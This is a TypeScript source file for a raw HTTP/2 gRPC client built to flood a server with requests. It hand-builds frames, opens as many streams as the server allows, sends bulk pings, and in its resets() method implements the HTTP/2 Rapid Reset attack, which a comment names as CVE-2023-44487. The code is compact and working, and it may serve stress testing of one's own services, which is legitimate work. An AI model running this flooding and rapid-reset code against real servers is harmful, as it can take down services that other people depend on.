const types = { data: 0, headers: 1, reset: 3, settings: 4, ping: 6, goaway: 7, windowUpdate: 8 } as const;
const endStream = 0x1;
const endHeaders = 0x4;
const acknowledge = 0x1;
const headerBytes = 9;
const initialWindow = 65_535;

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const header = Buffer.alloc(headerBytes);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

/** HPACK, without the dynamic table and Huffman. */
function text(value: string): Buffer {
  const bytes = Buffer.from(value);
  const length: number[] = [];
  let left = bytes.length;
  if (left < 127) length.push(left);
  else {
    length.push(127);
    for (left -= 127; left >= 128; left >>= 7) length.push((left & 127) | 128);
    length.push(left);
  }
  return Buffer.concat([Buffer.from(length), bytes]);
}

const literal = (name: string, value: string): Buffer => Buffer.concat([Buffer.from([0]), text(name), text(value)]);

/** `:method: POST` and `:scheme: http` of the static table. */
const post = Buffer.from([0x83, 0x86]);

function requestHeaders(path: string, authorization: string | undefined): Buffer {
  const headers = { ':path': path, ':authority': 'flood', 'content-type': 'application/grpc', te: 'trailers' };
  const fields = Object.entries({ ...headers, ...(authorization && { authorization }) });
  return Buffer.concat([post, ...fields.map(([name, value]) => literal(name, value))]);
}

const initialSettings = Buffer.from([0, 4, 0x7f, 0xff, 0xff, 0xff]);
const widestWindow = Buffer.from([0x7f, 0xff, 0, 0]);
const cancel = Buffer.from([0, 0, 0, 8]);

export interface GrpcRequest {
  readonly path: string;
  readonly authorization: string | undefined;
  readonly message: Buffer;
}

/** One connection of HTTP/2 that sends gRPC requests as fast as the server lets it. */
export class RawHttp2 {
  readonly hello = Buffer.concat([
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    frame(types.settings, 0, 0, initialSettings),
    frame(types.windowUpdate, 0, 0, widestWindow),
    frame(types.settings, acknowledge, 0),
  ]);
  readonly #headers: Buffer;
  readonly #message: Buffer;
  #stream = 1;
  #open = 0;
  #window = initialWindow;
  #unread = Buffer.alloc(0);

  constructor(
    { path, authorization, message }: GrpcRequest,
    private readonly maxOpen: number,
  ) {
    this.#headers = requestHeaders(path, authorization);
    const length = Buffer.alloc(5);
    length.writeUInt32BE(message.length, 1);
    this.#message = Buffer.concat([length, message]);
  }

  /** As many as the limit of streams and the window of the server allow; undefined for none. */
  requests(atMost: number): Buffer | undefined {
    const frames: Buffer[] = [];
    while (frames.length < 2 * atMost && this.#open < this.maxOpen && this.#window >= this.#message.length) {
      frames.push(frame(types.headers, endHeaders, this.#stream, this.#headers));
      frames.push(frame(types.data, endStream, this.#stream, this.#message));
      this.#stream += 2;
      this.#open++;
      this.#window -= this.#message.length;
    }
    return frames.length > 0 ? Buffer.concat(frames) : undefined;
  }

  /** Requests that are taken back at once: CVE-2023-44487. */
  resets(count: number): Buffer {
    return Buffer.concat(
      Array.from({ length: count }, () => {
        const stream = this.#stream;
        this.#stream += 2;
        return Buffer.concat([
          frame(types.headers, endHeaders, stream, this.#headers),
          frame(types.reset, 0, stream, cancel),
        ]);
      }),
    );
  }

  pings(count: number): Buffer {
    return Buffer.concat(Array(count).fill(frame(types.ping, 0, 0, Buffer.alloc(8))));
  }

  receive(bytes: Buffer): void {
    this.#unread = Buffer.concat([this.#unread, bytes]);
    while (this.#unread.length >= headerBytes) {
      const end = headerBytes + this.#unread.readUIntBE(0, 3);
      if (this.#unread.length < end) return;
      this.#take(this.#unread.subarray(0, end));
      this.#unread = this.#unread.subarray(end);
    }
  }

  #take(received: Buffer): void {
    const [type, flags] = [received[3], received[4] ?? 0];
    const isOfConnection = received.readUInt32BE(5) === 0;
    if (type === types.windowUpdate && isOfConnection) this.#window += received.readUInt32BE(headerBytes);
    else if (type === types.reset || (type === types.headers && (flags & endStream) !== 0)) this.#open--;
  }
}
